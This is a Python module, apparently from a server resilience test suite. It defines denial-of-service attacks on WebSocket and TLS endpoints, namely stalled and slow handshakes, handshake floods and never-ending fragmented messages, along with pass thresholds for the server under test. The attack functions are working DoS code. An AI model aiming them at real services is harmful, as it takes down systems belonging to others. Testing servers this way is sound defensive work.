"""Attacks on WebSockets: handshakes of HTTP and TLS that stall, or come in floods, and messages that never end."""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import Awaitable, Callable
from contextlib import closing
from functools import partial
from operator import attrgetter

from attack.connections import PENDING
from attack.frames import HELD, MANY
from attack.remote import PIECE, UPGRADE_REQUEST, Connection, Target, Tcp, WebSocket, again, masked
from attack.terms import Attack, Must

CONTINUATION, BINARY = 0, 2
FIN = 0x80

DIALS_AT_ONCE = 16


def client_hello() -> bytes:
    """With which TLS begins. It may be sent again and again: nobody remembers it."""
    outgoing = ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


HELLO = client_hello()


plain, secure = attrgetter("websocket"), attrgetter("tls")
"""Where a WebSocket begins: without TLS, and with it."""


async def stall(where: Callable[[Target], tuple[str, int]], opening: bytes, rest: bytes, target: Target) -> None:
    """So many connections that send ``opening`` at once, and a byte of ``rest`` each second."""

    async def once() -> None:
        with closing(await Tcp.open(target, at=where(target))) as pipe:
            await pipe.send(opening)
            for byte in rest:
                await asyncio.sleep(1.0)
                await pipe.send(bytes((byte,)))
            await pipe.discard()

    await asyncio.gather(*(again(once, pause=1.0) for _ in range(PENDING)))


async def come_and_go(where: Callable[[Target], tuple[str, int]], opening: bytes, target: Target) -> None:
    """Connections that send ``opening``, and leave when it is answered: the answer is what costs."""

    async def once() -> None:
        with closing(await Tcp.open(target, at=where(target))) as pipe:
            await pipe.send(opening)
            await pipe.receive()

    await asyncio.gather(*(again(once, pause=0.0) for _ in range(DIALS_AT_ONCE)))


async def fragments(size: int, target: Target) -> None:
    """One message that never ends, in fragments of ``size`` bytes."""

    async def once() -> None:
        with closing(await Connection.dial(target, WebSocket)) as connection:
            await connection.pipe.send_raw(unfinished(b"", BINARY))
            empty = bytes(PIECE // 64)  # frames of no stream, each 12 zeros
            one = unfinished(b"x" * size, CONTINUATION)
            head = len(one) - size

            def cut() -> bytes:
                if not size:
                    return one * (PIECE // head)
                data = connection.encrypt(empty)
                pieces = (data[start : start + size] for start in range(0, len(data), size))
                return b"".join(unfinished(piece, CONTINUATION) for piece in pieces)

            await connection.pipe.flood(cut)

    await asyncio.gather(*(again(once) for _ in range(MANY)))


def unfinished(payload: bytes | bytearray, opcode: int) -> bytes:
    """A frame after which the message goes on."""
    frame = masked(payload, opcode)
    return bytes((frame[0] & ~FIN,)) + frame[1:]


PENDING_HELD = Must(kept=99, kept_p99=200, fresh=95, turn=50)

DRIVES: dict[str, tuple[Callable[[Target], Awaitable[object]], Must]] = {
    "websocket-stalled": (partial(stall, plain, UPGRADE_REQUEST[:-1], b""), PENDING_HELD),
    "websocket-slow": (partial(stall, plain, b"", UPGRADE_REQUEST), PENDING_HELD),
    "websocket-handshakes": (partial(come_and_go, plain, UPGRADE_REQUEST), PENDING_HELD),
    "websocket-fragments": (partial(fragments, 1), HELD),
    "websocket-fragments-empty": (partial(fragments, 0), Must(kept_p99=100, fresh=95, turn=50, closed=True)),
    "tls-stalled": (partial(stall, secure, HELLO[:-1], b""), PENDING_HELD),
    "tls-unfinished": (partial(stall, secure, HELLO, b""), PENDING_HELD),
    "tls-slow": (partial(stall, secure, b"", HELLO), PENDING_HELD),
    "tls-handshakes": (partial(come_and_go, secure, HELLO), PENDING_HELD),
}

ATTACKS = tuple(
    Attack(name=name, drive=drive, must=must, quick=name == "websocket-stalled")
    for name, (drive, must) in DRIVES.items()
)
